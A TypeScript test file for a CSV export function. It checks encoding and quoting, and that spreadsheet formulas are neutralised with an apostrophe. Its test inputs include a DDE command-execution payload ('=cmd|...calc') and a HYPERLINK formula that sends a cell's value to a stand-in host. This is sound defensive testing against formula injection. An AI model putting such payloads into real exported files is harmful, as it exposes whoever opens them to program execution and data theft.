import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { fuzzInputs, long } from '#machines/testing/fuzz-inputs'
import { testProperty } from '#machines/testing/random-cases'
import { type CsvCell, type CsvColumn, csvOf } from './csv'

const columnsOf = (count: number): readonly CsvColumn<readonly CsvCell[]>[] =>
  Array.from({ length: count }, (_, index) => ({ name: `Column ${index}`, value: (row) => row[index] }))

/** Writes one cell beside another one, and returns its text in the file. */
function written(cell: CsvCell): string {
  const file = csvOf(columnsOf(2), [['first', cell]])
  const start = '\uFEFFColumn 0,Column 1\r\nfirst,'
  expect(file.slice(0, start.length)).toBe(start)
  return file.slice(start.length)
}

/** Reads a file like a spreadsheet, without its mark and its first line. */
function read(file: string): readonly (readonly string[])[] {
  const { data, errors } = Papa.parse<string[]>(file.slice(1), { delimiter: ',', newline: '\r\n' })
  expect(errors).toEqual([])
  return data.slice(1)
}

test('a file begins with the mark of UTF-8, has a line for each row and ends lines with CRLF', () => {
  const columns: readonly CsvColumn<{ id: string; count: number }>[] = [
    { name: 'User ID', value: ({ id }) => id },
    { name: 'Services, total', value: ({ count }) => count },
  ]
  const rows = [
    { id: 'müller', count: 2 },
    { id: '', count: 0 },
  ]
  expect(csvOf(columns, rows)).toBe('\uFEFFUser ID,"Services, total"\r\nmüller,2\r\n,0')
  expect(csvOf(columns, [])).toBe('\uFEFFUser ID,"Services, total"\r\n')
})

test.each<[CsvCell, string]>([
  [undefined, ''],
  [true, 'yes'],
  [false, 'no'],
  [-4999, '-4999'],
  [49.99, '49.99'],
  [0, '0'],
  ['651234567890123456789012', '651234567890123456789012'],
  ['say "hi"', '"say ""hi"""'],
  ['a,b', '"a,b"'],
  ['two\nlines', '"two\nlines"'],
  ['two\r\nlines', '"two\r\nlines"'],
  [' spaces ', '" spaces "'],
  ['שלום', 'שלום'],
  ['👨‍👩‍👧‍👦', '👨‍👩‍👧‍👦'],
  ['a-b', 'a-b'],
  ['a@example.test', 'a@example.test'],
])('the value %j is written as %j', (cell, text) => {
  expect(written(cell)).toBe(text)
})

test.each([
  ...[
    '=1+1',
    '+49 30',
    '-4999',
    '@SUM(A1)',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\u202e=1',
    '\0=1',
  ],
  ...[
    '\t=1',
    '\tx',
    '\rx',
    '\nx',
    '\ufeff=1',
    '\u2028=1',
    '=HYPERLINK("http://x.test?"&A1,"hi")',
    "=cmd|' /C calc'!A0",
  ],
])('the formula %j becomes a text', (formula) => {
  expect(written(formula)).toBe(`"'${formula.replaceAll('"', '""')}"`)
})

const anyText = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...fuzzInputs))
const signs = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠')
const invisible = fc.constantFrom('', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\u202e', '\ufeff', '\0', '\u007f')
const formula = fc
  .tuple(fc.array(invisible, { maxLength: 4 }), signs, anyText)
  .map(([first, ...rest]) => first.join('') + rest.join(''))
const anyCell = fc.oneof(
  anyText,
  formula,
  fc.boolean(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constant(undefined),
)

testProperty(
  'a spreadsheet reads the same rows, with an apostrophe before formulas',
  300,
  fc.array(fc.array(anyCell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 }),
  (rows) => {
    const expected = rows.map((row) => row.map(readCell))
    expect(read(csvOf(columnsOf(3), rows)).map((row) => row.map(plain))).toEqual(expected)
  },
)

/** Returns the text that a spreadsheet has for a cell, apart from the apostrophe of a formula. */
function readCell(cell: CsvCell): string {
  if (typeof cell === 'boolean') return cell ? 'yes' : 'no'
  return plain(String(cell ?? ''))
}

const plain = (text: string) => (text.startsWith("'") ? text.slice(1) : text)

testProperty('no text in a file is a formula', 500, fc.oneof(formula, anyText), (text) => {
  const [[, cell = ''] = []] = read(csvOf(columnsOf(2), [['first', text]]))
  // Reads one character at a time, to be independent of the expression that it tests.
  const visible = [...cell].find((character) => character.trim() !== '' && !/\p{C}/u.test(character))
  const isFormula = '\t\r\n'.includes(cell[0] ?? 'x') || '=+-@＝＋－＠'.includes(visible ?? 'x')
  expect(isFormula).toBe(false)
})

test('long texts are written at once', () => {
  const start = performance.now()
  expect(
    read(
      csvOf(
        columnsOf(1),
        long.map((text) => [text]),
      ),
    ),
  ).toHaveLength(long.length)
  expect(performance.now() - start).toBeLessThan(2000)
})
